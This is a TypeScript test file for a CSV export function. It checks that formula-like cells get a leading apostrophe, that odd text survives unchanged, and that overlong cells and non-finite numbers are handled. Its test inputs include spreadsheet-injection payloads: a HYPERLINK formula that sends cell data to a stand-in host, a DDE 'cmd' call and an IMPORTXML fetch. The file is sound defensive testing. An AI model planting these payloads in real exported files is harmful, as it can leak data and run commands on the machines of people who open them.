import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralised, toCsv } from '@/lib/export/csv.ts';
import { hostileTexts } from '../../components/hostile.ts';
import { aFeature, attribution, columns, type features } from './features.ts';

const point = { type: 'Point' as const, coordinates: [-77.03, 38.9] };
const csvOf = (list: typeof features) => [...toCsv(list, columns, attribution)].join('');

describe('a cell that a spreadsheet would run', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    '\u200b=1',
    '\u{ff1d}1+1',
    '\u{ff0b}1',
    '\u{ff0d}1',
    '\u{ff20}x',
    '\u2212' + '1',
    '|calc',
    '%0A=1',
    '=HYPERLINK("http://e.example?x="&A1,"x")',
    "=cmd|'/c calc'!A1",
    '=IMPORTXML("http://e.example","//a")',
  ])('%j starts with an apostrophe, and the row keeps its columns', (text) => {
    const [, row, ...more] = parse(csvOf([aFeature('x.e1', point, text)]));
    expect(row).toEqual([
      'x.e1',
      '-77.03',
      '38.9',
      `'${text}`,
      '-7',
      'false',
      'a1; a2',
      '[{"value":1}]',
      'Whereabouts',
      'MIT',
      'aaaaaaaaaaaa',
      '2026-01-02',
    ]);
    expect(more).toEqual([]);
  });
});

it.each(['a,b', 'a"b', 'line1\nline2', "O'Brien", 'Минск', '東京', '5 = 5', ...hostileTexts])(
  'keeps %j as it is',
  (text) => {
    const [, row] = parse(csvOf([aFeature('x.e1', point, text)]));
    expect(row?.[3]).toBe(text);
  },
);

it('leaves NUL out, and cuts a cell that no spreadsheet takes, saying so', () => {
  expect(neutralised('a\0b')).toBe('ab');
  expect(neutralised('a'.repeat(32_767))).toHaveLength(32_767);
  const cut = neutralised('a'.repeat(32_768));
  expect([cut.length, cut.slice(-8)]).toEqual([32_767, 'a… [cut]']);
});

it('keeps numbers as numbers, and refuses what is none', () => {
  expect(csvOf([aFeature('x.e1', point, 'n')]).split('\r\n')[1]).toBe(
    'x.e1,-77.03,38.9,n,-7,false,a1; a2,"[{""value"":1}]",Whereabouts,MIT,aaaaaaaaaaaa,2026-01-02',
  );
  const broken = aFeature('x.e1', { type: 'Point', coordinates: [Number.NaN, 1] }, 'n');
  expect(() => csvOf([broken])).toThrow('column lon holds null, which is no finite number');
});

it('has a header and nothing else where nothing is found', () => {
  expect(csvOf([])).toBe(
    'id,lon,lat,name,count,isInferred,articles,statistics,source,licence,data_version,data_of\r\n',
  );
});
